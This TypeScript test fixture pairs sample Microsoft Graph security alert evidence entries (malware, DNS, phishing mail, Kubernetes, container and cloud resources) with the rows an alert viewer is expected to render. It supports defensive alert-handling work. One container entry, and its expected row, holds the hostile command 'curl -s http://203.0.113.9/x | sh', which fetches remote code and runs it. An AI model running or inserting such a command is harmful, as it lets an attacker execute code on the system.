/** Graph evidence of the types the sample alerts do not carry, each with the row it should read as. */
import type { SecurityNamespace as S } from "@microsoft/microsoft-graph-types";
import type { Evidence } from "../../src/source/alert.ts";
import type { Typed } from "../emulators/sample-graph-alerts.ts";

const at = "2026-11-30T08:15:42.123Z";
const common: S.AlertEvidence = { createdDateTime: at, verdict: "unknown", remediationStatus: "none", roles: [], detailedRoles: [], tags: [] };
const namespace = (name: string, cluster = "aks-prod-weu"): S.KubernetesNamespaceEvidence => ({ ...common, name, cluster: { ...common, name: cluster, platform: "aks" } });
const ip = (ipAddress: string): S.IpEvidence => ({ ...common, ipAddress });

/** An evidence entry as Graph sends it. */
export type Entry = { "@odata.type": string } & Record<string, unknown>;

/** One entry of each type that has a row of its own and no sample alert carries, typed with Microsoft's types, and the row it reads as. */
export const EVIDENCE_ROWS: Array<[raw: Entry, row: Evidence]> = [
  [
    { "@odata.type": "#microsoft.graph.security.fileHashEvidence", ...common, algorithm: "sha256", value: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae" } satisfies Typed<S.FileHashEvidence, "fileHashEvidence">,
    { kind: "other", type: "File SHA-256", entity: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae", details: [] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.malwareEvidence",
      ...common,
      verdict: "malicious",
      name: "Trojan:Win32/Emotet.RPX!MTB",
      category: "Trojan",
      files: [{ ...common, fileDetails: { fileName: "invoice.docm", filePath: "C:\\Users\\jdoe\\Downloads" } }, { ...common, fileDetails: { fileName: "x.dll" } }],
      processes: [],
    } satisfies Typed<S.MalwareEvidence, "malwareEvidence">,
    { kind: "other", type: "Malware", entity: "Trojan:Win32/Emotet.RPX!MTB", details: [{ label: "category", text: "Trojan" }, { label: "files", code: "C:\\Users\\jdoe\\Downloads\\invoice.docm, x.dll" }, { label: "verdict", text: "malicious" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.hostLogonSessionEvidence",
      ...common,
      account: { ...common, userAccount: { accountName: "jdoe", domainName: "CONTOSO" } },
      host: { ...common, deviceDnsName: "fin-ws-042.contoso.com" },
      sessionId: "0x3e7a91",
    } satisfies Typed<S.HostLogonSessionEvidence, "hostLogonSessionEvidence">,
    { kind: "other", type: "Sign-in session", entity: "CONTOSO\\jdoe", details: [{ label: "on", code: "fin-ws-042.contoso.com" }, { label: "session", code: "0x3e7a91" }] },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.dnsEvidence", ...common, domainName: "c2.evil.example", ipAddresses: [ip("203.0.113.9"), ip("203.0.113.10")], hostIpAddress: ip("10.1.4.27"), dnsServerIp: ip("10.1.0.10") } satisfies Typed<S.DnsEvidence, "dnsEvidence">,
    { kind: "other", type: "DNS", entity: "c2.evil.example", details: [{ label: "resolved to", code: "203.0.113.9, 203.0.113.10" }, { label: "asked by", code: "10.1.4.27" }, { label: "DNS server", code: "10.1.0.10" }] },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.networkConnectionEvidence", ...common, sourceAddress: ip("fe80::1"), sourcePort: 49733, destinationAddress: ip("203.0.113.9"), destinationPort: 443, protocol: "tcp" } satisfies Typed<S.NetworkConnectionEvidence, "networkConnectionEvidence">,
    { kind: "other", type: "Network connection", entity: "203.0.113.9:443", details: [{ label: "from", code: "[fe80::1]:49733" }, { label: "protocol", text: "tcp" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.mailClusterEvidence",
      ...common,
      clusterBy: "Subject;SenderIp",
      clusterByValue: "Overdue invoice;198.51.100.77",
      emailCount: 14,
      networkMessageIds: ["5b1c2d3e-4f50-4a6b-8c7d-9e0f1a2b3c4d"],
      query: "(Subject:\"Overdue invoice\") AND (SenderIp:198.51.100.77)",
      urn: "urn:MailCluster:1f2e",
    } satisfies Typed<S.MailClusterEvidence, "mailClusterEvidence">,
    {
      kind: "other",
      type: "E-mail cluster",
      entity: "Overdue invoice;198.51.100.77",
      details: [{ label: "clustered by", text: "Subject;SenderIp" }, { label: "e-mails", text: "14" }, { label: "query", code: "(Subject:\"Overdue invoice\") AND (SenderIp:198.51.100.77)" }],
    },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.submissionMailEvidence",
      ...common,
      subject: "Your parcel is waiting",
      sender: "track@parcel.example",
      recipient: "jdoe@contoso.com",
      senderIp: "198.51.100.80",
      networkMessageId: "7c1d2e3f-0000-4a6b-8c7d-9e0f1a2b3c4d",
      submitter: "jdoe@contoso.com",
      reportType: "Phish",
      submissionId: "s-1",
    } satisfies Typed<S.SubmissionMailEvidence, "submissionMailEvidence">,
    {
      kind: "other",
      type: "Reported e-mail",
      entity: "Your parcel is waiting",
      details: [
        { label: "from", code: "track@parcel.example" },
        { label: "to", code: "jdoe@contoso.com" },
        { label: "sender IP", code: "198.51.100.80" },
        { label: "network message ID", code: "7c1d2e3f-0000-4a6b-8c7d-9e0f1a2b3c4d" },
        { label: "reported by", code: "jdoe@contoso.com" },
        { label: "as", text: "Phish" },
      ],
    },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.mailboxConfigurationEvidence",
      ...common,
      mailboxPrimaryAddress: "jdoe@contoso.com",
      configurationType: "mailForwardingRule",
      displayName: "Forward all to external",
      configurationId: "cfg-9",
    } satisfies Typed<S.MailboxConfigurationEvidence, "mailboxConfigurationEvidence">,
    { kind: "other", type: "Mailbox configuration", entity: "jdoe@contoso.com", details: [{ text: "mailForwardingRule" }, { text: "Forward all to external" }, { label: "ID", code: "cfg-9" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.teamsMessageEvidence",
      ...common,
      subject: "Urgent: payroll update",
      senderFromAddress: "hr@fabrikam.example",
      recipients: ["jdoe@contoso.com", "asmith@contoso.com"],
      senderIP: "198.51.100.90",
      messageId: "1733050000000",
      deliveryAction: "delivered",
      deliveryLocation: "teams",
      urls: [{ ...common, url: "https://payroll.fabrikam.example/login" }],
    } satisfies Typed<S.TeamsMessageEvidence, "teamsMessageEvidence">,
    {
      kind: "other",
      type: "Teams message",
      entity: "Urgent: payroll update",
      details: [
        { label: "from", code: "hr@fabrikam.example" },
        { label: "to", code: "jdoe@contoso.com, asmith@contoso.com" },
        { label: "sender IP", code: "198.51.100.90" },
        { label: "message ID", code: "1733050000000" },
        { label: "delivery", text: "delivered → teams" },
        { label: "URL", code: "https://payroll.fabrikam.example/login" },
      ],
    },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.securityGroupEvidence",
      ...common,
      displayName: "Domain Admins",
      distinguishedName: "CN=Domain Admins,CN=Users,DC=contoso,DC=com",
      sid: "S-1-5-21-1782478320-2345332114-4123456789-512",
      securityGroupId: "g-1",
    } satisfies Typed<S.SecurityGroupEvidence, "securityGroupEvidence">,
    { kind: "other", type: "Security group", entity: "Domain Admins", details: [{ label: "DN", code: "CN=Domain Admins,CN=Users,DC=contoso,DC=com" }, { label: "SID", code: "S-1-5-21-1782478320-2345332114-4123456789-512" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.servicePrincipalEvidence",
      ...common,
      servicePrincipalName: "MailSync Pro",
      appId: "4a5b6c7d-8e9f-4a0b-9c1d-2e3f4a5b6c7d",
      servicePrincipalObjectId: "9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d",
      servicePrincipalType: "application",
    } satisfies Typed<S.ServicePrincipalEvidence, "servicePrincipalEvidence">,
    {
      kind: "other",
      type: "Service principal",
      entity: "MailSync Pro",
      details: [{ label: "app ID", code: "4a5b6c7d-8e9f-4a0b-9c1d-2e3f4a5b6c7d" }, { label: "object ID", code: "9a8b7c6d-5e4f-4a3b-9c2d-1e0f9a8b7c6d" }, { label: "type", text: "application" }],
    },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.cloudLogonSessionEvidence",
      ...common,
      account: { ...common, userAccount: { accountName: "jdoe", domainName: "contoso.com", userPrincipalName: "jdoe@contoso.com" } },
      deviceName: "JDOE-LAPTOP",
      operatingSystem: "Windows 11",
      browser: "Edge 131",
      userAgent: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
      sessionId: "sess-77",
    } satisfies Typed<S.CloudLogonSessionEvidence, "cloudLogonSessionEvidence">,
    {
      kind: "other",
      type: "Cloud sign-in session",
      entity: "jdoe@contoso.com",
      details: [{ label: "device", code: "JDOE-LAPTOP" }, { label: "OS", text: "Windows 11" }, { label: "browser", text: "Edge 131" }, { label: "user agent", code: "Mozilla/5.0 (Windows NT 10.0; Win64; x64)" }, { label: "session", code: "sess-77" }],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.amazonResourceEvidence", ...common, resourceName: "finance-exports", resourceType: "AWS::S3::Bucket", amazonResourceId: "arn:aws:s3:::finance-exports", amazonAccountId: "123456789012" } satisfies Typed<S.AmazonResourceEvidence, "amazonResourceEvidence">,
    { kind: "other", type: "AWS resource", entity: "finance-exports", details: [{ label: "type", text: "AWS::S3::Bucket" }, { label: "ID", code: "arn:aws:s3:::finance-exports" }, { label: "account", code: "123456789012" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.googleCloudResourceEvidence",
      ...common,
      resourceName: "build-runner-3",
      resourceType: "compute.googleapis.com/Instance",
      fullResourceName: "//compute.googleapis.com/projects/ci-prod/zones/europe-west1-b/instances/build-runner-3",
      projectId: "ci-prod",
      projectNumber: 918273645,
      location: "europe-west1-b",
      locationType: "zonal",
    } satisfies Typed<S.GoogleCloudResourceEvidence, "googleCloudResourceEvidence">,
    {
      kind: "other",
      type: "Google Cloud resource",
      entity: "build-runner-3",
      details: [
        { label: "type", text: "compute.googleapis.com/Instance" },
        { label: "full name", code: "//compute.googleapis.com/projects/ci-prod/zones/europe-west1-b/instances/build-runner-3" },
        { label: "project", code: "ci-prod" },
        { label: "location", text: "europe-west1-b" },
      ],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.blobContainerEvidence", ...common, name: "exports", url: "https://finreports.blob.core.windows.net/exports", storageResource: { ...common, resourceName: "finreports" } } satisfies Typed<S.BlobContainerEvidence, "blobContainerEvidence">,
    { kind: "other", type: "Blob container", entity: "https://finreports.blob.core.windows.net/exports", details: [{ label: "storage", code: "finreports" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.blobEvidence",
      ...common,
      name: "q4.xlsx",
      url: "https://finreports.blob.core.windows.net/exports/q4.xlsx",
      blobContainer: { ...common, name: "exports" },
      fileHashes: [
        { algorithm: "md5", value: "9e107d9d372bb6826bd81d3542a419d6" },
        { algorithm: "sha256", value: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae" },
        { algorithm: "unknownFutureValue", value: "abc" },
      ],
      etag: "0x8DD",
    } satisfies Typed<S.BlobEvidence, "blobEvidence">,
    {
      kind: "other",
      type: "Blob",
      entity: "https://finreports.blob.core.windows.net/exports/q4.xlsx",
      details: [
        { label: "container", code: "exports" },
        { label: "MD5", code: "9e107d9d372bb6826bd81d3542a419d6" },
        { label: "SHA-256", code: "2c26b46b68ffc68ff99b453c1d30413413422d706483bfa0f98a5e886266e7ae" },
        { label: "hash", code: "abc" },
      ],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.kubernetesClusterEvidence", ...common, name: "aks-prod-weu", platform: "aks", distribution: "AKS", version: "1.30.4" } satisfies Typed<S.KubernetesClusterEvidence, "kubernetesClusterEvidence">,
    { kind: "other", type: "Kubernetes cluster", entity: "aks-prod-weu", details: [{ label: "platform", text: "aks" }, { label: "distribution", text: "AKS" }, { label: "version", text: "1.30.4" }] },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.kubernetesNamespaceEvidence", ...namespace("payments") } satisfies Typed<S.KubernetesNamespaceEvidence, "kubernetesNamespaceEvidence">,
    { kind: "other", type: "Kubernetes namespace", entity: "payments", details: [{ label: "cluster", code: "aks-prod-weu" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.kubernetesPodEvidence",
      ...common,
      name: "api-7d9f8-xk2lp",
      namespace: namespace("payments"),
      podIp: ip("10.244.1.17"),
      containers: [{ ...common, name: "api" }, { ...common, name: "istio-proxy" }],
      serviceAccount: { ...common, name: "api-sa" },
    } satisfies Typed<S.KubernetesPodEvidence, "kubernetesPodEvidence">,
    {
      kind: "other",
      type: "Kubernetes pod",
      entity: "payments/api-7d9f8-xk2lp",
      details: [{ label: "cluster", code: "aks-prod-weu" }, { label: "IP", code: "10.244.1.17" }, { label: "containers", code: "api, istio-proxy" }, { label: "service account", code: "api-sa" }],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.kubernetesControllerEvidence", ...common, name: "api", type: "Deployment", namespace: namespace("payments") } satisfies Typed<S.KubernetesControllerEvidence, "kubernetesControllerEvidence">,
    { kind: "other", type: "Kubernetes controller", entity: "payments/api", details: [{ label: "type", text: "Deployment" }, { label: "cluster", code: "aks-prod-weu" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.kubernetesServiceEvidence",
      ...common,
      name: "api",
      namespace: namespace("payments"),
      serviceType: "loadBalancer",
      clusterIP: ip("10.0.12.4"),
      externalIPs: [ip("20.50.1.2")],
    } satisfies Typed<S.KubernetesServiceEvidence, "kubernetesServiceEvidence">,
    {
      kind: "other",
      type: "Kubernetes service",
      entity: "payments/api",
      details: [{ label: "type", text: "loadBalancer" }, { label: "cluster IP", code: "10.0.12.4" }, { label: "external IPs", code: "20.50.1.2" }, { label: "cluster", code: "aks-prod-weu" }],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.kubernetesServiceAccountEvidence", ...common, name: "api-sa", namespace: namespace("payments") } satisfies Typed<S.KubernetesServiceAccountEvidence, "kubernetesServiceAccountEvidence">,
    { kind: "other", type: "Kubernetes service account", entity: "payments/api-sa", details: [{ label: "cluster", code: "aks-prod-weu" }] },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.kubernetesSecretEvidence", ...common, name: "db-password", secretType: "Opaque", namespace: namespace("payments") } satisfies Typed<S.KubernetesSecretEvidence, "kubernetesSecretEvidence">,
    { kind: "other", type: "Kubernetes secret", entity: "payments/db-password", details: [{ label: "type", text: "Opaque" }, { label: "cluster", code: "aks-prod-weu" }] },
  ],
  [
    {
      "@odata.type": "#microsoft.graph.security.containerEvidence",
      ...common,
      name: "api",
      containerId: "c0ffee",
      image: { ...common, imageId: "contoso.azurecr.io/payments/api@sha256:abc" },
      command: ["/bin/sh", "-c"],
      args: ["curl -s http://203.0.113.9/x | sh"],
      isPrivileged: true,
      pod: { ...common, name: "api-7d9f8-xk2lp", namespace: namespace("payments") },
    } satisfies Typed<S.ContainerEvidence, "containerEvidence">,
    {
      kind: "other",
      type: "Container",
      entity: "api",
      details: [
        { label: "image", code: "contoso.azurecr.io/payments/api@sha256:abc" },
        { label: "command", code: "/bin/sh -c curl -s http://203.0.113.9/x | sh" },
        { text: "privileged" },
        { label: "pod", code: "payments/api-7d9f8-xk2lp" },
        { label: "container ID", code: "c0ffee" },
      ],
    },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.containerImageEvidence", ...common, imageId: "contoso.azurecr.io/payments/api:1.4.2", registry: { ...common, registry: "contoso.azurecr.io" } } satisfies Typed<S.ContainerImageEvidence, "containerImageEvidence">,
    { kind: "other", type: "Container image", entity: "contoso.azurecr.io/payments/api:1.4.2", details: [{ label: "registry", code: "contoso.azurecr.io" }] },
  ],
  [
    { "@odata.type": "#microsoft.graph.security.containerRegistryEvidence", ...common, registry: "contoso.azurecr.io" } satisfies Typed<S.ContainerRegistryEvidence, "containerRegistryEvidence">,
    { kind: "other", type: "Container registry", entity: "contoso.azurecr.io", details: [] },
  ],
];

